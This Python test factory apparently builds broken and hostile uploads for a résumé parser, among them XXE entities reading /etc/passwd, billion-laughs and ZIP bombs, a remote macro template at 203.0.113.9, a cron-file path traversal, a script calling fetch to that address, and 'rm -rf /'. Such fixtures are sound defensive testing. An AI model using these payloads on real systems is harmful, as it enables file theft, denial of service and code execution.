"""Uploads that are broken, huge, locked, scripted or not what their name says, and what is right to say about each."""

from __future__ import annotations

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping

import docx

from tests.factories.bad_pdfs import Paper, papers, plain

MAIN, TYPES = "word/document.xml", "[Content_Types].xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
WORDS = "Help desk assistant with Python and Microsoft Excel"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def word() -> bytes:
    """A sound Word document."""
    made = docx.Document()
    made.add_paragraph(WORDS)
    held = io.BytesIO()
    made.save(held)
    return held.getvalue()


def rebuilt(changes: Mapping[str, bytes | None], *, more: Mapping[str, bytes] | None = None) -> bytes:
    """The sound document with parts changed, left out (None) or added."""
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as old, zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = changes.get(entry.filename, old.read(entry))
            if part is not None:
                new.writestr(entry.filename, part)
        for name, part in (more or {}).items():
            new.writestr(name, part)
    return held.getvalue()


def body(inside: str, before: str = "", encoding: str = "utf-8") -> bytes:
    """A main part with this inside."""
    text = f'<?xml version="1.0" encoding="{encoding}"?>{before}<w:document {W}><w:body>{inside}</w:body></w:document>'
    return text.encode(encoding)


def said(text: str) -> str:
    """A paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def laughs() -> str:
    """Entities that grow a billionfold."""
    rows = ['<!ENTITY a "ha">', *(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))]
    return f"<!DOCTYPE x [{''.join(rows)}]>"


def lying(data: bytes) -> bytes:
    """A ZIP whose directory says that the main part is tiny."""
    found = data.rfind(MAIN.encode())
    start = data.rfind(b"PK\x01\x02", 0, found)
    return data[: start + 24] + struct.pack("<I", 40) + data[start + 28 :]


def flagged(data: bytes) -> bytes:
    """A ZIP whose entries say that they are locked."""
    out = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = out.find(mark)
        while place >= 0:
            out[place + offset] |= 1
            place = out.find(mark, place + 4)
    return bytes(out)


def twice() -> bytes:
    """A document with two main parts."""
    held = io.BytesIO(word())
    with zipfile.ZipFile(held, "a") as archive:
        archive.writestr(MAIN + "x", body(said("other")))
    return held.getvalue().replace(b"word/document.xmlx", b"word/document.xml\x00")[:-1] + b"\x00"


def zipped(**parts: bytes) -> bytes:
    """A ZIP of something else."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for name, part in parts.items():
            archive.writestr(name.replace("__", "/"), part)
    return held.getvalue()


def words() -> Iterator[tuple[str, str, bytes, str]]:
    """Word documents."""
    macros = zipfile.ZipFile(io.BytesIO(word())).read(TYPES).replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml")
    links = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
             b'attachedTemplate" Target="http://203.0.113.9/evil.dotm" TargetMode="External"/></Relationships>')
    file_entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    net_entity = '<!DOCTYPE x SYSTEM "http://203.0.113.9/x.dtd">'
    yield "packed to burst", "r.docx", rebuilt({MAIN: body(said(" " * 60_000_000))}), "too_deep"
    yield "says it is small", "r.docx", lying(rebuilt({MAIN: body(said("x" * 3_000_000))})), "too_deep broken"
    yield "five thousand parts", "r.docx", rebuilt({}, more={f"x/{n}.bin": b"x" for n in range(5000)}), "too_deep"
    yield "entity to a file", "r.docx", rebuilt({MAIN: body(said("&e;"), file_entity)}), "entities"
    yield "entity to an address", "r.docx", rebuilt({MAIN: body(said("x"), net_entity)}), "entities"
    yield "a billion laughs", "r.docx", rebuilt({MAIN: body(said("&j;"), laughs())}), "entities"
    yield "entities in UTF-16", "r.docx", rebuilt({MAIN: body(said("&j;"), laughs(), "utf-16")}), "entities"
    yield "entities in the styles", "r.docx", rebuilt({"word/styles.xml": body(said("x"), laughs())}), "entities"
    yield "with macros", "r.docm", rebuilt({TYPES: macros}, more={"word/vbaProject.bin": OLE}), "read"
    yield "template from the net", "r.docx", rebuilt({"word/_rels/document.xml.rels": links}), "read"
    yield "path out of the folder", "r.docx", rebuilt({}, more={"../../../etc/cron.d/x": b"* * * * * root id"}), "read"
    yield "without its main part", "r.docx", rebuilt({MAIN: None}), "broken"
    yield "without its types", "r.docx", rebuilt({TYPES: None}), "broken"
    yield "without relations", "r.docx", rebuilt({"_rels/.rels": None}), "broken"
    yield "torn XML", "r.docx", rebuilt({MAIN: body(said("x"))[:-30]}), "broken"
    yield "tables in tables", "r.docx", rebuilt({MAIN: body("<w:p>" * 9000 + "</w:p>" * 9000)}), "too_deep"
    yield "nothing in it", "r.docx", rebuilt({MAIN: body("")}), "no_text"
    yield "a library", "r.docx", rebuilt({MAIN: body(said("words " * 100_000))}), "too_much_text"
    yield "cut in the middle", "r.docx", word()[: len(word()) // 2], "broken"
    yield "two main parts", "r.docx", twice(), "broken read"
    yield "locked parts", "r.docx", flagged(word()), "encrypted"
    yield "locked by Office", "r.docx", OLE + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 500, "encrypted"


def mislabelled() -> Iterator[tuple[str, str, bytes, str]]:
    """Files whose names promise something else."""
    yield "a picture", "r.pdf", PNG + b"\x00" * 300, "mislabelled"
    yield "a photo", "r.docx", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 300, "mislabelled"
    yield "a program for Linux", "r.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 300, "mislabelled"
    yield "a program for Windows", "r.docx", b"MZ\x90\x00\x03" + b"\x00" * 300, "mislabelled"
    yield "a PDF as DOCX", "r.docx", plain(), "mislabelled"
    yield "a DOCX as PDF", "r.pdf", word(), "mislabelled"
    yield "a DOCX as text", "r.txt", word(), "mislabelled"
    yield "a table as DOCX", "r.docx", zipped(xl__workbook=b"<x/>"), "mislabelled"
    yield "a web page", "r.txt", b"<!DOCTYPE html><script>fetch('http://203.0.113.9')</script>", "mislabelled"
    yield "a drawing with a script", "r.pdf", b"<svg onload='alert(1)'></svg>", "mislabelled"
    yield "a shell script", "r.pdf", b"#!/bin/sh\nrm -rf /\n", "mislabelled"
    yield "an old Word file", "r.docx", OLE, "mislabelled"
    yield "an old Word file by its name", "r.doc", OLE, "old_word"
    yield "rich text", "r.docx", b"{\\rtf1\\ansi Hello}", "mislabelled"
    yield "a database", "r.json", b"SQLite format 3\x00" + b"\x00" * 300, "mislabelled"
    yield "a packed file", "r.gz", b"\x1f\x8b\x08" + zlib.compress(b"x" * 999), "other_kind"
    yield "a name with a path", "../../etc/passwd\x00.pdf", b"root:x:0:0", "mislabelled"


def texts() -> Iterator[tuple[str, str, bytes, str]]:
    """Plain text and JSON."""
    noise = random.Random(7).randbytes(4000)
    yield "nothing", "r.txt", b"", "empty"
    yield "spaces", "r.txt", b" \n\t\r\n" * 500, "empty"
    yield "NULs between letters", "r.txt", b"P\x00y\x00t\x00h\x00on", "not_text"
    yield "only NULs", "r.txt", b"\x00" * 5000, "empty"
    yield "noise", "r.txt", noise, "not_text"
    yield "half of UTF-16", "r.txt", b"\xff\xfe" + "Python".encode("utf-16-le")[:-1], "not_text"
    yield "UTF-16", "r.txt", WORDS.encode("utf-16"), "read"
    yield "an old encoding", "r.txt", "José, técnico de redes".encode("cp1252"), "read"
    yield "a script that is text", "r.txt", b"#!/bin/sh\ntouch /tmp/owned\n", "read"
    yield "a novel", "r.txt", b"words " * 100_000, "too_much_text"
    yield "too many bytes", "r.txt", b"words " * 2_000_000, "too_large"
    yield "signs for a terminal", "r.txt", b"\x1b]0;owned\x07\x1b[2J" * 50, "not_text"
    yield "JSON, deep", "r.json", b"[" * 200_000, "too_deep"
    yield "JSON, deep inside", "r.json", b'{"work":' + b'[{"highlights":' * 5000 + b"1", "too_deep"
    yield "JSON, no number", "r.json", b'{"work": [{"name": NaN}]}', "broken"
    yield "JSON, a number of 9,000 digits", "r.json", b'{"work": [{"name": ' + b"9" * 9000 + b"}]}", "broken"
    yield "JSON, a list", "r.json", b"[1, 2, 3]", "not_resume"
    yield "JSON, wrong types", "r.json", b'{"work": "ten years", "skills": {"a": 1}}', "not_resume"
    yield "JSON, a truth for a text", "r.json", b'{"skills": [{"name": true}]}', "not_resume"
    yield "JSON, something else", "r.json", b'{"openapi": "3.1.0"}', "not_resume"
    yield "JSON, huge", "r.json", json.dumps({"skills": [{"name": "x" * 900}] * 1000}).encode(), "too_much_text"
    yield "JSON, long lists", "r.json", json.dumps({"skills": [{"name": "x"}] * 5000}).encode(), "not_resume"
    yield "JSON, half letters", "r.json", b'{"skills": [{"name": "Pyth\\ud800on"}]}', "read"
    yield "JSON, torn", "r.json", b'{"skills": [{"name": "Py', "broken"
    yield "JSON, a name of the language", "r.json", b'{"skills": [{"__proto__": {"x": 1}, "name": "SQL"}]}', "read"


def uploads() -> list[Paper]:
    """All of them: what it is, its name, its content, and the codes that are right for it."""
    made = list(papers())
    for group, rows in (("DOCX", words()), ("mislabelled", mislabelled()), ("text", texts())):
        made += [(f"{group}: {what}", name, data, frozenset(codes.split())) for what, name, data, codes in rows]
    return made
